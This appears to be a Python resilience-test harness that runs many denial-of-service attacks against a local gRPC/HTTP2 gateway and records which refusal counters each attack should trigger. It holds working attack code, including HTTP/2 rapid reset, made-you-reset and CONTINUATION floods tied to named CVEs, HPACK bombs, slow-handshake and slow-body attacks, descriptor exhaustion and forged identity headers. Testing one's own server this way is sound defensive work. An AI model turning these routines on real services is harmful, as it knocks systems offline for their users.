"""What those who mean harm do, one function an attack: it goes on until its time is up, from several connections and
addresses, and comes back when it is cut off. The table at the end says what each of them shows.

usage: attacks.py <name> <port> <ca file or -> <seconds> <facts file>   prints what it did, as JSON
"""
import collections
import dataclasses
import itertools
import json
import pathlib
import random
import socket
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from http1_attacks import (http1_endless_heads, http1_lying_bodies, http1_slow_bodies, http1_slow_heads,  # noqa: E402
                           http1_too_many_calls, http1_unread_answers, json_bombs)
from kept_attacks import last_bytes, messages_and_a_byte, unread_acknowledgements, unread_pages  # noqa: E402
from wire import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, ENABLE_PUSH, GOAWAY, HEADERS,  # noqa: E402
                  INITIAL_WINDOW, MAX_FRAME, MAX_STREAMS, PING, PREFACE, PRIORITY, PUSH, RESET, SETTINGS, TABLE_SIZE,
                  WIDE, WINDOW, Gone, Target, Wire, field, frame, message, number, settings, text)

MIB = 1 << 20


class Party:
    """An attack under way: where to, until when, and what came of it."""

    def __init__(self, target, seconds, facts, own):
        self.target, self.until, self.facts, self.own = target, time.monotonic() + seconds, facts, own
        self.did, self.sources = collections.Counter(), itertools.cycle(own)
        self.wire = Wire

    def more(self):
        return time.monotonic() < self.until

    def connect(self, source=None, **how):
        """None where we are not let in."""
        try:
            wire = self.wire(self.target, source or next(self.sources), **how)
            self.did["connections"] += 1
            return wire
        except Gone:
            self.did["not let in"] += 1
            time.sleep(0.01)
            return None

    def again(self, one, **how):
        """`one` connection after another, as long as there is time."""
        while self.more():
            wire = self.connect(**how)
            if wire is None:
                continue
            with wire:
                try:
                    one(wire)
                except Gone:
                    self.did["cut"] += 1
                for code in wire.errors:
                    self.did[f"error {code}"] += 1

    def crowd(self, count, one, pause=0.02, **how):
        """`count` connections at once, each fed a little in turn by `one`, a generator; those that end come again."""
        live = []
        while self.more():
            while len(live) < count and self.more():
                wire = self.connect(**how)
                if wire is None:
                    break
                live.append((wire, one(wire)))
            for pair in list(live):
                wire, turn = pair
                try:
                    next(turn)
                    if not wire.read():
                        raise Gone("closed")
                except (Gone, StopIteration) as why:
                    self.did["cut" if isinstance(why, Gone) else "ended"] += 1
                    for code in wire.errors:
                        self.did[f"error {code}"] += 1
                    wire.close()
                    live.remove(pair)
            time.sleep(pause)
        for wire, _ in live:
            self.did["stayed"] += wire.read()
            wire.close()

    def idle(self, wire, seconds=0.1):
        """Waits while the other side lets us."""
        while self.more():
            if not wire.wait(seconds):
                raise Gone("closed")


def streams(first=1):
    return itertools.count(first, 2)


# Streams.

def rapid_reset(party):
    """Calls that are taken back as soon as they are made (CVE-2023-44487)."""
    def one(wire):
        head, ids = wire.block(wire.signed()), streams()
        while party.more():
            wire.send(b"".join(wire_call(head, party.target.body, i) + frame(RESET, b"\0\0\0\x08", 0, i)
                               for i in itertools.islice(ids, 500)))
            party.did["calls"] += 500
    party.again(one)


def wire_call(head, body, stream):
    return frame(HEADERS, head, END_HEADERS, stream) + frame(DATA, message(body), END_STREAM, stream)


def made_to_reset(party):
    """The other side is made to take them back (CVE-2025-8671): a window that overflows."""
    def one(wire):
        head, ids = wire.block(wire.signed()), streams()
        while party.more():
            wire.send(b"".join(frame(HEADERS, head, END_HEADERS, i) + frame(DATA, message(party.target.body), 0, i) +
                               frame(WINDOW, b"\x7f\xff\xff\xff", 0, i) for i in itertools.islice(ids, 200)))
            party.did["calls"] += 200
    party.again(one)


def unacknowledged_settings(party):
    """Many more calls than the settings allow, by one who never says that it read them."""
    def one(wire):
        head, ids = wire.block(wire.signed()), streams()
        wire.send(b"".join(frame(HEADERS, head, END_HEADERS, i) for i in itertools.islice(ids, 5000)))
        party.did["calls"] += 5000
        party.idle(wire)
    party.again(one)


def streams_that_stay(party):
    """As many calls as the settings allow, on each of many connections, and nothing more."""
    def one(wire):
        wire.send(settings() + frame(SETTINGS, b"", ACK))
        head = wire.block(wire.signed())
        for i in itertools.islice(streams(), 100):
            wire.send(frame(HEADERS, head, END_HEADERS, i))
            party.did["calls"] += 1
        while True:
            yield
    party.crowd(40, one)


def watches(party):
    """Streams of messages, which may last for a day, as many as one can hold."""
    def one(wire):
        path = party.facts["watch_path"]
        for i in itertools.islice(streams(), 100):
            wire.send(wire.call(wire.signed(), stream=i, path=path, body=bytes.fromhex(party.facts["watch_body"])))
            party.did["calls"] += 1
        while True:
            yield
    party.crowd(20, one)


def watches_of_many(party):
    """The same by ten who each have a name of their own."""
    tokens = itertools.cycle(party.facts["tokens"])
    def one(wire):
        head = wire.block(("authorization", "Bearer " + next(tokens)), path=party.facts["watch_path"])
        body = bytes.fromhex(party.facts["watch_body"])
        wire.send(b"".join(wire_call(head, body, i) for i in itertools.islice(streams(), 100)))
        party.did["calls"] += 100
        while True:
            yield
    party.crowd(20, one, hello=WIDE)


def fat_heads(party):
    """Heads that are few bytes on the wire and many fields when they are read, of calls that stay."""
    def one(wire):
        wire.send(frame(SETTINGS, b"", ACK))
        ids, head = itertools.islice(streams(), 100), wire.block(wire.signed(), ("grpc-timeout", "30S"))
        known = number(62, 7, 0x80)  # the field that the first head has the other side remember
        wire.send(frame(HEADERS, head + field("a", "b", b"@"), END_HEADERS, next(ids)))
        wire.send(b"".join(frame(HEADERS, head + known * 200, END_HEADERS, i) for i in ids))
        party.did["calls"] += 100
        while True:
            yield
    party.crowd(256, one)


def empty_messages(party):
    """Messages of no bytes, as many as the windows take, to a stream whose answer is never taken."""
    def one(wire):
        wire.send(frame(SETTINGS, b"", ACK))
        ids = list(itertools.islice(streams(), 50))
        head = wire.block(wire.signed(), path="/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")
        wire.send(b"".join(frame(HEADERS, head, END_HEADERS, i) + frame(DATA, message(b"\x3a\0"), 0, i) for i in ids))
        many, few = bytes(16380), b"".join(frame(DATA, message(), 0, 0) for _ in range(500))
        for turn in range(15):
            for i in ids:
                wire.send(frame(DATA, many, 0, i) if turn % 4 else few.replace(frame(DATA, message())[:9],
                                                                               frame(DATA, message(), 0, i)[:9]))
                party.did["KiB"] += 16
            yield
        while True:
            yield
    party.crowd(8, one, hello=settings((INITIAL_WINDOW, 0)))


# Connections.

def descriptor_siege(party):
    """Connections until there are no more file descriptors, from two hundred addresses."""
    def one(wire):
        while True:
            yield
    party.sources = itertools.cycle([f"127.0.1.{i}" for i in range(1, 200)])
    party.crowd(3000, one, handshake=False)


def silent_connections(party):
    """They connect and never say a word, not even a handshake."""
    def one(wire):
        while True:
            yield
    party.crowd(600, one, handshake=False)


def slow_handshake(party):
    """A handshake of TLS, or the preface, a byte at a time."""
    # The beginning of a ClientHello that says it is 512 bytes long.
    begin = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" if party.target.ca else PREFACE
    def one(wire):
        for byte in begin + bytes(500):
            wire.send(bytes([byte]))
            for _ in range(20):
                yield
    party.crowd(200, one, handshake=False)


def slow_preface(party):
    """After the handshake: the preface a byte at a time, and the settings never."""
    def one(wire):
        for byte in PREFACE + settings()[:5]:
            wire.send(bytes([byte]))
            for _ in range(20):
                yield
        while True:
            yield
    party.crowd(60, one, hello=None)


def handshakes(party):
    """Connections that come and go, each with all the work of a handshake."""
    party.sources = itertools.cycle(party.own[:1])
    for _ in range(150):  # what one address may do at once is spent by those that say nothing
        socket.create_connection(("127.0.0.1", party.target.port), 10, (party.own[0], 0)).close()
    party.again(lambda wire: None)


# Headers.

def slow_headers(party):
    """A head of which more comes each second, and never the end."""
    def one(wire):
        wire.send(frame(HEADERS, wire.block()[:20], 0, 1) + frame(CONTINUATION, bytes(1000), 0, 1)[:9])
        while True:
            for _ in range(40):
                yield
            wire.send(b"\0")
    party.crowd(60, one)


def continuation_flood(party):
    """A head without an end (CVE-2024-27316): full frames, or empty ones."""
    def one(wire):
        more = b"".join(field(f"x-{i}", "v" * 100) for i in range(120))
        wire.send(frame(HEADERS, wire.block(), 0, 1))
        part = frame(CONTINUATION, more if random.random() < 0.5 else b"", 0, 1) * 20
        while party.more():
            wire.send(part)
            party.did["frames"] += 20
    party.again(one)


def header_flood(party):
    """Calls with as much metadata as fits, each refused and each read."""
    def one(wire):
        much = [(f"x-{i}", "v" * 1000) for i in range(15)]
        head, ids = wire.block(*much), streams()
        while party.more():
            wire.send(b"".join(frame(HEADERS, head, END_HEADERS | END_STREAM, i) for i in itertools.islice(ids, 20)))
            party.did["calls"] += 20
    party.again(one)


def hpack_bomb(party):
    """A field of 4,000 bytes that the other side remembers, and then 16,000 times a byte that means it."""
    def one(wire):
        ids = streams()
        first = wire.block() + field("x", "v" * 3900, b"@")
        wire.send(frame(HEADERS, first, END_HEADERS | END_STREAM, next(ids)))
        bomb = wire.block() + number(62, 7, 0x80) * 15000
        while party.more():
            wire.send(frame(HEADERS, bomb, END_HEADERS | END_STREAM, next(ids)))
            party.did["calls"] += 1
    party.again(one)


def table_churn(party):
    """A table that is made small and large again in each head, and filled."""
    def one(wire):
        ids = streams()
        while party.more():
            block = b"".join(number(size, 5, 0x20) for size in (0, 4096)) + wire.block()
            block += b"".join(field(f"y-{i}", "v" * 30, b"@") for i in range(100))
            wire.send(b"".join(frame(HEADERS, block, END_HEADERS | END_STREAM, i) for i in itertools.islice(ids, 20)))
            party.did["calls"] += 20
    party.again(one)


def forged_identity(party):
    """Headers that say who calls, or whence: none is believed."""
    names = party.facts["forged"]
    def one(wire):
        ids = streams()
        while party.more():
            for name in names:
                wire.send(wire.call((name, "spiffe://nisi/svc/gateway"), stream=next(ids), path=party.facts["closed_path"]))
                party.did["calls"] += 1
            wire.wait(0.05)
    party.again(one)


def bad_tokens(party):
    """The corpus of bad tokens, again and again: each costs a look, most a signature."""
    tokens = party.facts["bad_tokens"]
    def one(wire):
        ids, heads = streams(), [wire.block(("authorization", token)) for token in tokens]
        while party.more():
            for head in heads:
                wire.send(wire_call(head, party.target.body, next(ids)))
                party.did["calls"] += 1
    party.again(one)


# Bodies.

def slow_bodies(party):
    """Calls whose message comes a byte a second."""
    def one(wire):
        wire.send(frame(SETTINGS, b"", ACK))
        head = wire.block(wire.signed())
        ids = list(itertools.islice(streams(), 50))
        wire.send(b"".join(frame(HEADERS, head, END_HEADERS, i) + frame(DATA, message(length=1000), 0, i) for i in ids))
        party.did["calls"] += len(ids)
        while True:
            for _ in range(40):
                yield
            wire.send(b"".join(frame(DATA, b"x", 0, i) for i in ids))
    party.crowd(40, one)


def hoarded_bodies(party):
    """Messages of 4 MiB that lack their last byte, as many as one can leave lying about."""
    part = frame(DATA, bytes(16384), 0, 0)
    def one(wire):
        wire.send(frame(SETTINGS, b"", ACK))
        head, ids = wire.block(wire.signed()), list(itertools.islice(streams(), 90))
        wire.send(b"".join(frame(HEADERS, head, END_HEADERS, i) + frame(DATA, message(length=4 * MIB), 0, i) for i in ids))
        party.did["calls"] += len(ids)
        for _ in range(255):
            for i in ids:
                wire.send(part[:5] + i.to_bytes(4, "big") + part[9:])
                party.did["KiB"] += 16
            yield
        while True:
            yield
    party.crowd(8, one)


def too_large(party):
    """Messages over every bound, whole."""
    def one(wire):
        ids = streams()
        while party.more():
            i = next(ids)
            wire.send(wire.head(wire.signed(), stream=i) + frame(DATA, message(length=1 << 32 - 1 if i % 4 == 1 else 8 * MIB), 0, i))
            wire.send(frame(DATA, bytes(16384), 0, i) * 3)
            party.did["calls"] += 1
    party.again(one)


def lying_lengths(party):
    """Lengths that do not hold: of the message, of the content, of the padding."""
    def one(wire):
        ids = streams()
        while party.more():
            lies = []
            for _ in range(20):
                a, b, c, d, e = (next(ids) for _ in range(5))
                lies += [wire.head(stream=a) + frame(DATA, message(b"x" * 10, length=11), END_STREAM, a),
                         wire.head(stream=b) + frame(DATA, message(b"x" * 10, length=9), END_STREAM, b),
                         wire.head(("content-length", "3"), stream=c) + frame(DATA, message(b"x"), END_STREAM, c),
                         wire.head(("content-length", "99999999999"), stream=d) + frame(DATA, message(b"x"), END_STREAM, d),
                         wire.head(stream=e) + frame(DATA, message(b"x" * 10, compressed=1), END_STREAM, e)]
            wire.send(b"".join(lies))
            party.did["calls"] += len(lies)
            wire.wait(0.01)
    party.again(one)


# Answers.

def closed_windows(party):
    """Large answers are asked for, and the window for them is never opened."""
    body = bytes.fromhex(party.facts["large_body"])
    def one(wire):
        wire.send(frame(SETTINGS, b"", ACK))
        ids = list(itertools.islice(streams(), 100))
        wire.send(b"".join(wire.call(wire.signed(), stream=i, path=party.facts["large_path"], body=body) for i in ids))
        party.did["calls"] += len(ids)
        while True:
            yield
    party.crowd(30, one, hello=settings((INITIAL_WINDOW, 0)))


def trickled_windows(party):
    """The same, with the windows opened by a byte at a time."""
    body = bytes.fromhex(party.facts["large_body"])
    def one(wire):
        wire.send(frame(SETTINGS, b"", ACK))
        ids = list(itertools.islice(streams(), 100))
        wire.send(b"".join(wire.call(wire.signed(), stream=i, path=party.facts["large_path"], body=body) for i in ids))
        party.did["calls"] += len(ids)
        while True:
            for _ in range(10):
                yield
            wire.send(b"".join(frame(WINDOW, b"\0\0\0\1", 0, i) for i in ids))
    party.crowd(30, one, hello=settings((INITIAL_WINDOW, 0)))


def unread_answers(party):
    """Large answers are asked for, and nothing is read from the socket."""
    body = bytes.fromhex(party.facts["large_body"])
    def one(wire):
        head, ids = wire.block(wire.signed(), path=party.facts["large_path"]), streams()
        end = min(party.until, time.monotonic() + 20)
        while time.monotonic() < end:
            wire.send(b"".join(wire_call(head, body, i) for i in itertools.islice(ids, 10)), reading=False, patience=0.2)
            party.did["calls"] += 10
    party.again(one, hello=WIDE)


# Frames.

def frame_flood(what, part):
    def attack(party):
        def one(wire):
            wire.send(frame(SETTINGS, b"", ACK))
            while party.more():
                wire.send(part * 500)
                party.did["frames"] += 500
        party.again(one)
    attack.__doc__ = what
    return attack


ping_flood = frame_flood("Pings, each of which wants an answer.", frame(PING, bytes(8)))
settings_flood = frame_flood("Settings, each of which wants an answer.", settings((INITIAL_WINDOW, 65535)))
priority_flood = frame_flood("Priorities of streams that nobody opened.", frame(PRIORITY, b"\0\0\0\0\x10", 0, 1))
window_flood = frame_flood("A window that grows by a byte at a time.", frame(WINDOW, b"\0\0\0\1"))
unknown_flood = frame_flood("Frames of kinds that nobody knows.", frame(0xbe, bytes(20)))


def empty_data_flood(party):
    """A body of many frames and no byte (CVE-2019-9518)."""
    def one(wire):
        wire.send(wire.head(wire.signed()))
        while party.more():
            wire.send(frame(DATA, b"", 0, 1) * 500)
            party.did["frames"] += 500
    party.again(one)


def window_swing(party):
    """The first window of all streams up and down, with many of them open (CVE-2019-9517's kin)."""
    def one(wire):
        head = wire.block(wire.signed())
        wire.send(frame(SETTINGS, b"", ACK) +
                  b"".join(frame(HEADERS, head, END_HEADERS, i) for i in itertools.islice(streams(), 100)))
        while party.more():
            wire.send((settings((INITIAL_WINDOW, 0)) + settings((INITIAL_WINDOW, 1 << 30))) * 50)
            party.did["frames"] += 100
    party.again(one)


def frame_zoo(party):
    """Frames that are not allowed: each kind on a connection of its own, in many wrong forms."""
    zoo = itertools.cycle(animals())
    def one(wire):
        animal = next(zoo)
        wire.send(wire.head() + animal if random.random() < 0.5 else animal)
        party.did["animals"] += 1
        if not wire.wait(0.05):
            raise Gone("closed")
    party.again(one)


def animals():
    noise = random.Random(1)
    found = [frame(DATA, b"x", 0, 0), frame(DATA, b"x", 0, 99), frame(DATA, b"\xff", 8, 1), frame(HEADERS, b"", END_HEADERS, 0),
             frame(HEADERS, b"\0", END_HEADERS, 2), frame(HEADERS, b"\xff" * 50, END_HEADERS, 3),
             frame(HEADERS, b"\0\0\0\3\x10", 0x24, 3), frame(PRIORITY, b"\0", 0, 1), frame(PRIORITY, b"\0\0\0\1\0", 0, 1),
             frame(RESET, b"\0\0\0\0", 0, 0), frame(RESET, b"\0\0\0\0", 0, 77), frame(RESET, b"\0", 0, 1),
             frame(SETTINGS, b"\0", 0, 0), frame(SETTINGS, b"", 0, 1), frame(SETTINGS, b"\0\0\0\0\0\0", ACK, 0),
             settings((ENABLE_PUSH, 2)), settings((INITIAL_WINDOW, 1 << 31)), settings((MAX_FRAME, 1)),
             settings((MAX_FRAME, 1 << 24)), settings((TABLE_SIZE, 1 << 31)), settings(*[(9, 9)] * 100),
             frame(SETTINGS, b"", ACK), frame(PUSH, b"\0\0\0\2" + b"\x82", END_HEADERS, 1), frame(PING, b"\0" * 7),
             frame(PING, b"\0" * 8, 0, 1), frame(GOAWAY, b"\0" * 8), frame(GOAWAY, b"\0" * 7), frame(GOAWAY, b"\0" * 8, 0, 1),
             frame(WINDOW, b"\0\0\0\0"), frame(WINDOW, b"\0\0\0\0", 0, 1), frame(WINDOW, b"\x7f\xff\xff\xff"),
             frame(WINDOW, b"\0\0\0\1", 0, 99), frame(WINDOW, b"\0"), frame(CONTINUATION, b"", END_HEADERS, 1),
             frame(CONTINUATION, b"x", 0, 0), frame(255, b"x" * 100, 255, 0x7fffffff), b"\xff" * 9, b"GET / HTTP/1.1\r\n\r\n",
             frame(DATA, b"x" * 16385, 0, 1), b"\x00\x00\x05\x00\x00\x80\x00\x00\x01hello",
             frame(HEADERS, field("UPPER", "x"), END_HEADERS, 3), frame(HEADERS, field(":path", "/a") * 2, END_HEADERS, 3),
             frame(HEADERS, field("x", "\0\n"), END_HEADERS, 3), frame(HEADERS, field("connection", "close"), END_HEADERS, 3),
             frame(HEADERS, number(61 + 70, 7, 0x80), END_HEADERS, 3), frame(HEADERS, number(1 << 40, 5, 0x20), END_HEADERS, 3),
             frame(HEADERS, b"\0" + text("a") + number(1 << 30, 7), END_HEADERS, 3)]
    for _ in range(60):
        found.append(frame(noise.randrange(12), noise.randbytes(noise.randrange(40)), noise.randrange(256), noise.randrange(6)))
    return found


# Good calls, too many.

def too_many_calls(party):
    """One caller with a good name and good calls, as many as its connections take."""
    def one(wire):
        head, ids, sent = wire.block(wire.signed()), streams(), 0
        wire.send(frame(SETTINGS, b"", ACK))
        while True:
            some = 100 - (sent - wire.ended)
            if some > 0:
                wire.send(b"".join(wire_call(head, party.target.body, i) for i in itertools.islice(ids, some)))
                sent += some
                party.did["calls"] += some
            yield
    party.crowd(16, one, pause=0, hello=WIDE)


def heavy_calls(party):
    """The same with calls that take a while."""
    party.target = party.target._replace(path=party.facts["large_path"], body=bytes.fromhex(party.facts["large_body"]))
    too_many_calls(party)


@dataclasses.dataclass
class Attack:
    run: object
    counts: tuple = ()  # what the gateway counts when it refuses it, one of them at least
    processes: int = 1  # that do it at once
    seconds: int = 0  # at least: until what it waits for has come
    waits: bool = False  # and does little else

    @property
    def name(self):
        return self.run.__name__

    @property
    def what(self):
        return self.run.__doc__.split("\n")[0]


for _name in ("ping", "settings", "priority", "window", "unknown"):
    globals()[_name + "_flood"].__name__ = _name + "_flood"

# Deadlines of the gateway: a greeting and a head have 5 s, our settings 10 s, a call 5 s unless it says.
ATTACKS = [
    Attack(rapid_reset, ("resets",), 2), Attack(made_to_reset, ("resets",)),
    Attack(unacknowledged_settings, ("resets", "settings")),
    Attack(streams_that_stay, ("calls",), seconds=7, waits=True), Attack(watches, ("overloaded",)),
    Attack(watches_of_many, ("overloaded",)), Attack(fat_heads, ("room",), seconds=7, waits=True),
    Attack(empty_messages, ("room", "overloaded")),
    Attack(descriptor_siege, ("connections",)), Attack(silent_connections, ("connections", "arrivals")),
    Attack(slow_handshake, ("silence", "connections"), seconds=7, waits=True),
    Attack(slow_preface, ("silence",), seconds=7, waits=True), Attack(handshakes, ("arrivals",), 2),
    Attack(slow_headers, ("silence",), seconds=7, waits=True), Attack(continuation_flood, ("frames",)),
    Attack(header_flood, ("calls",)), Attack(hpack_bomb, ("heads",)), Attack(table_churn, ("resets", "calls")),
    Attack(forged_identity, ("calls",)), Attack(bad_tokens, ("tokens",)),
    Attack(slow_bodies, ("calls",), seconds=7, waits=True), Attack(hoarded_bodies, ("room",)),
    Attack(too_large, ("calls",)), Attack(lying_lengths, ("frames",)), Attack(closed_windows, ("overloaded", "room")),
    Attack(trickled_windows, ("answers", "overloaded"), seconds=25, waits=True),
    Attack(unread_answers, ("answers", "resets"), seconds=13),
    Attack(unread_pages, ("room", "answers", "calls")), Attack(last_bytes, ("room", "calls")),
    Attack(messages_and_a_byte, ("room", "calls"), seconds=7), Attack(unread_acknowledgements, ("room", "answers", "chatter")),
    Attack(ping_flood, ("chatter",)),
    Attack(settings_flood, ("settings",)), Attack(priority_flood, ("chatter",)), Attack(window_flood, ("chatter",)),
    Attack(unknown_flood), Attack(empty_data_flood, ("chatter",)), Attack(window_swing, ("settings",)),
    Attack(frame_zoo, ("frames",)), Attack(too_many_calls, ("overloaded",)),
    Attack(heavy_calls, ("overloaded", "room")),
    Attack(http1_slow_heads, ("silence",), seconds=7, waits=True),
    Attack(http1_slow_bodies, ("calls",), seconds=7, waits=True), Attack(http1_endless_heads, ("heads",)),
    Attack(http1_lying_bodies, ("frames",)), Attack(http1_unread_answers, ("room", "answers"), seconds=13, waits=True),
    Attack(http1_too_many_calls, ("overloaded",), seconds=2), Attack(json_bombs, ("calls",), seconds=2)]


def main():
    name, port, ca, seconds, facts_file = sys.argv[1:]
    facts = json.loads(pathlib.Path(facts_file).read_text())
    target = Target(int(port), None if ca == "-" else ca, facts["path"], bytes.fromhex(facts["body"]), facts["token"])
    place = [attack.name for attack in ATTACKS].index(name)
    # Whence it comes: neither the good client nor another attack has these addresses.
    party = Party(target, float(seconds), facts, [f"127.0.{100 + place}.{i}" for i in (2, 3)])
    ATTACKS[place].run(party)
    print(json.dumps(party.did))


if __name__ == "__main__":
    main()
